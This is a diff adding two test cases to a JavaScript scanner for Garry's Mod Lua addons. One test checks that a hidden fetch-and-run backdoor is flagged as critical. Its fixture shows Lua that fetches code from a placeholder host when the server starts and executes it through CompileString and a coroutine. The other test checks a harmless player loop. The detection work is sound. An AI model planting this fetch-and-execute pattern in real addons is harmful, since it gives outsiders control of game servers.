@@ -145,4 +145,29 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a coroutine handed to http.Fetch, compiling what it is resumed with', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local co = coroutine.wrap(function()',
+        ' local payload = coroutine.yield()',
+        ' local run = CompileString(payload, "stats")',
+        ' run()',
+        'end)',
+        'co()',
+        'hook.Add("InitPostEntity", "s", function() http.Fetch("https://stats.invalid/s.php", co) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a coroutine that paces a loop over the players', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local co = coroutine.create(function()',
+        ' for _, p in ipairs(player.GetAll()) do p:SetNWInt("rank", 1) coroutine.yield() end',
+        'end)',
+        'hook.Add("Think", "pace", function() if coroutine.status(co) ~= "dead" then coroutine.resume(co) end end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
